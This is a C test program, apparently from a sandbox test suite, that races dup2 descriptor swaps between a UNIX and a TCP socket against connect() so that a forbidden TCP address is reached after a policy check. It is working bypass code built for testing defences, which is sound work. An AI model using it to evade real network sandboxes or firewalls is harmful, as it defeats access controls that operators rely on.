/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * A second thread swaps the descriptor by dup2(2) between a UNIX and a TCP socket while connect(2)
 * to a forbidden TCP address is being decided: a decision on one socket, the act on the other.
 *
 *	swap FORBIDDEN TRIES
 */

#include <pthread.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

#define SLOT 200 /* the descriptor that changes under the call */

static struct place forbidden;
static atomic_int round_socket; /* the TCP socket of this try */
static int unix_socket;
static atomic_bool over;

static void *swapper(void *arg)
{
	while (!atomic_load_explicit(&over, memory_order_relaxed)) {
		dup2(atomic_load(&round_socket), SLOT);
		dup2(unix_socket, SLOT);
	}
	return arg;
}

static bool connected(int fd)
{
	struct sockaddr_storage peer;
	socklen_t length = sizeof(peer);

	return getpeername(fd, (struct sockaddr *)&peer, &length) == 0;
}

int main(int argc, char **argv)
{
	const struct linger now = {.l_onoff = 1};
	long tries = argc == 3 ? atol(argv[2]) : 0, hits = 0;
	pthread_t thread;

	if (tries < 1)
		return untried("usage: swap FORBIDDEN TRIES");
	forbidden = place_parse(argv[1]);
	unix_socket = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	atomic_store(&round_socket, place_socket(&forbidden, SOCK_STREAM));
	need(unix_socket >= 0 && round_socket >= 0, "socket");
	need(pthread_create(&thread, NULL, swapper, NULL) == 0, "pthread_create");
	for (long i = 0; i < tries; i++) {
		connect(SLOT, (struct sockaddr *)&forbidden.address, forbidden.length);
		if (connected(round_socket)) {
			int old = round_socket, fd = place_socket(&forbidden, SOCK_STREAM);
			need(fd >= 0, "socket");
			hits++;
			atomic_store(&round_socket, fd);
			setsockopt(old, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
			close(old);
		}
	}
	atomic_store(&over, true);
	pthread_join(thread, NULL);
	if (hits > 0)
		return succeeded("%ld of %ld reached the forbidden place", hits, tries);
	return stopped("%ld tries, none reached the forbidden place", tries);
}
